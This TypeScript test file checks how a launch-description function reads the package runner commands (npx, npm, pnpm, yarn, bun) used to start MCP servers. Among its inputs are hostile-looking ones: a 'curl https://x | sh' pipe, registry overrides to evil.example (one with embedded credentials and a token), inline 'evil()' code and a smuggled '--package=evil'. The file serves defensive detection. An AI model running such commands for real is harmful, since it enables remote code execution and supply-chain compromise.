// npm runners: which package, pinned or not, and what else they are told to run.
import assert from "node:assert/strict";
import { test } from "node:test";
import { describeLaunch } from "../../src/facts/launch/describe_launch.ts";
import type { Launch, Package } from "../../src/generated/event.ts";

/** Words of the command line, what differs from a plain program on the search path, and the package. */
type Row = readonly [words: readonly string[], launch: Partial<Launch>, pkg?: Package];

const PLAIN = { location: "search_path", wrappers: [], elevated: false };

const ROWS: readonly Row[] = [
  [
    ["npx", "-y", "@modelcontextprotocol/server-memory"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "npm",
      name: "@modelcontextprotocol/server-memory",
      pinned: false,
      pointer: "/server/args/1",
    },
  ],
  [
    ["npx", "@playwright/mcp@latest"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "npm",
      name: "@playwright/mcp",
      version: "latest",
      pinned: false,
      pointer: "/server/args/0",
    },
  ],
  [
    ["npx", "-y", "exa-mcp-server@1.2.3", "tools=x"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "npm",
      name: "exa-mcp-server",
      version: "1.2.3",
      pinned: true,
      pointer: "/server/args/1",
    },
  ],
  [
    ["npx", "-y", "pkg@^1.0.0"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", version: "^1.0.0", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "-y", "pkg@1"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", version: "1", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "--yes", "--quiet", "pkg@1.0.0"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["npx", "--registry", "https://user:pass@evil.example/?token=abc", "pkg@1.0.0"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "npm",
      name: "pkg",
      version: "1.0.0",
      pinned: true,
      registry_url: "https://evil.example/",
      pointer: "/server/args/2",
    },
  ],
  [
    ["npx", "--registry=https://evil.example", "pkg@1.0.0"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "npm",
      name: "pkg",
      version: "1.0.0",
      pinned: true,
      registry_url: "https://evil.example",
      pointer: "/server/args/1",
    },
  ],
  [
    ["npx", "--@acme:registry=https://evil.example", "@acme/pkg@1.0.0"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "npm",
      name: "@acme/pkg",
      version: "1.0.0",
      pinned: true,
      registry_url: "https://evil.example",
      pointer: "/server/args/1",
    },
  ],
  [
    ["npx", "--prefix", "/tmp/x", "pkg@1.0.0"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["npx", "--no-install", "pkg"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "--", "pkg@1.0.0", "-y"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["npx", "-p", "a@1.0.0", "a-cli"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "a", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["npx", "--package=a@1.0.0", "--package=b", "a-cli"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "b", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "-p", "a@1.0.0", "node", "-e", "evil()"],
    { program: "npx", inline_code: { program: "node", flag: "-e", pointer: "/server/args/4" } },
    { runner: "npx", registry: "npm", name: "a", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["npx", "-c", "curl https://x | sh"],
    { program: "npx", inline_code: { program: "npx", flag: "-c", pointer: "/server/args/1" } },
  ],
  [
    ["npx", "--call", "evil", "-p", "a@1.0.0"],
    { program: "npx", inline_code: { program: "npx", flag: "--call", pointer: "/server/args/1" } },
    { runner: "npx", registry: "npm", name: "a", version: "1.0.0", pinned: true, pointer: "/server/args/3" },
  ],
  [
    ["npx", "--weird", "good@1.0.0", "other@1.0.0"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "good", version: "1.0.0", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "--weird=1", "good@1.0.0"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "good", version: "1.0.0", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "a@npm:b@1.0.0"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "b", version: "1.0.0", pinned: true, pointer: "/server/args/0" },
  ],
  [
    ["npx", "github:a/b"],
    { program: "npx" },
    { runner: "npx", registry: "git", name: "https://github.com/a/b", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["npx", "github:a/b#0123456789abcdef0123456789abcdef01234567"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "git",
      name: "https://github.com/a/b",
      version: "0123456789abcdef0123456789abcdef01234567",
      pinned: true,
      pointer: "/server/args/0",
    },
  ],
  [
    ["npx", "github:a/b#0123456"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "git",
      name: "https://github.com/a/b",
      version: "0123456",
      pinned: false,
      pointer: "/server/args/0",
    },
  ],
  [
    ["npx", "git+https://u:tok@git.example/a.git#0123456789abcdef0123456789abcdef01234567"],
    { program: "npx" },
    {
      runner: "npx",
      registry: "git",
      name: "https://git.example/a.git",
      version: "0123456789abcdef0123456789abcdef01234567",
      pinned: true,
      pointer: "/server/args/0",
    },
  ],
  [
    ["npx", "https://x.example/y.tgz"],
    { program: "npx" },
    { runner: "npx", registry: "url", name: "https://x.example/y.tgz", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["npx", "./local"],
    { program: "npx" },
    { runner: "npx", registry: "path", name: "./local", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["npx", "C:\\pkg"],
    { program: "npx" },
    { runner: "npx", registry: "path", name: "C:\\pkg", pinned: false, pointer: "/server/args/0" },
  ],
  [["npx"], { program: "npx" }],
  [["npx", "-y"], { program: "npx" }],
  [
    ["npx", "-y", "tsx", "server.ts"],
    { program: "npx", script: { path: "server.ts", pointer: "/server/args/2" } },
    { runner: "npx", registry: "npm", name: "tsx", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npx", "-y", "tsx@4.0.0", "-e", "evil()"],
    { program: "npx", inline_code: { program: "tsx", flag: "-e", pointer: "/server/args/3" } },
    { runner: "npx", registry: "npm", name: "tsx", version: "4.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["NPX.CMD", "-y", "pkg"],
    { program: "npx" },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["C:\\Program Files\\nodejs\\npx.cmd", "-y", "pkg@1.0.0"],
    { program: "npx", location: "absolute", directory: "C:/Program Files/nodejs" },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["/usr/bin/npx", "-y", "pkg"],
    { program: "npx", location: "absolute", directory: "/usr/bin" },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["/tmp/../tmp/npx", "pkg"],
    { program: "npx", location: "absolute", directory: "/tmp" },
    { runner: "npx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["npm", "exec", "--", "pkg@1.0.0"],
    { program: "npm" },
    { runner: "npm", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["npm", "x", "pkg"],
    { program: "npm" },
    { runner: "npm", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/1" },
  ],
  [
    ["npm", "exec", "good@1.0.0", "-c", "evil"],
    { program: "npm", inline_code: { program: "npm", flag: "-c", pointer: "/server/args/3" } },
  ],
  [
    ["npm", "exec", "--yes", "--package=evil", "--", "good@1.0.0"],
    { program: "npm" },
    { runner: "npm", registry: "npm", name: "evil", pinned: false, pointer: "/server/args/2" },
  ],
  [["npm", "run", "start"], { program: "npm" }],
  [
    ["pnpm", "dlx", "pkg@1.0.0"],
    { program: "pnpm" },
    { runner: "pnpm", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [
    ["pnpm", "--package=a@1.0.0", "dlx", "a-cli"],
    { program: "pnpm" },
    { runner: "pnpm", registry: "npm", name: "a", version: "1.0.0", pinned: true, pointer: "/server/args/0" },
  ],
  [
    ["pnpm", "dlx", "-c", "evil && x"],
    { program: "pnpm", inline_code: { program: "pnpm", flag: "-c", pointer: "/server/args/2" } },
  ],
  [
    ["pnpm", "exec", "node", "x.js"],
    { program: "node", wrappers: ["pnpm"], script: { path: "x.js", pointer: "/server/args/2" } },
  ],
  [
    ["pnpx", "pkg"],
    { program: "pnpx" },
    { runner: "pnpx", registry: "npm", name: "pkg", pinned: false, pointer: "/server/args/0" },
  ],
  [
    ["yarn", "dlx", "-q", "pkg@1.0.0"],
    { program: "yarn" },
    { runner: "yarn", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["yarn", "dlx", "-p", "a@1.0.0", "b"],
    { program: "yarn" },
    { runner: "yarn", registry: "npm", name: "a", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [["yarn", "start"], { program: "yarn" }],
  [
    ["bunx", "--bun", "-y", "pkg@1.0.0"],
    { program: "bunx" },
    { runner: "bunx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
  [
    ["~/.bun/bin/bunx", "-y", "@upstash/context7-mcp@latest"],
    { program: "bunx", location: "home" },
    {
      runner: "bunx",
      registry: "npm",
      name: "@upstash/context7-mcp",
      version: "latest",
      pinned: false,
      pointer: "/server/args/1",
    },
  ],
  [
    ["bun", "x", "pkg@1.0.0"],
    { program: "bun" },
    { runner: "bun", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/1" },
  ],
  [["bun", "run", "server.ts"], { program: "bun", script: { path: "server.ts", pointer: "/server/args/1" } }],
  [["bun", "-e", "evil()"], { program: "bun", inline_code: { program: "bun", flag: "-e", pointer: "/server/args/1" } }],
  [["node_modules/.bin/server", "--x"], { program: "server", location: "relative" }],
  [
    ["node", "C:\\npm\\npx-cli.js", "-y", "pkg@1.0.0"],
    { program: "npx", wrappers: ["node"] },
    { runner: "npx", registry: "npm", name: "pkg", version: "1.0.0", pinned: true, pointer: "/server/args/2" },
  ],
];

for (const [words, launch, pkg] of ROWS) {
  const [command = "", ...args] = words;
  test(`describeLaunch reads ${JSON.stringify(words).slice(0, 120)}`, () => {
    const described = describeLaunch({ command, args });
    // `exact` has its own table in launch_exact.test.ts.
    const expected = pkg === undefined ? {} : { package: { exact: described.package?.exact, ...pkg } };
    assert.deepEqual(described, { launch: { ...PLAIN, ...launch }, ...expected });
  });
}
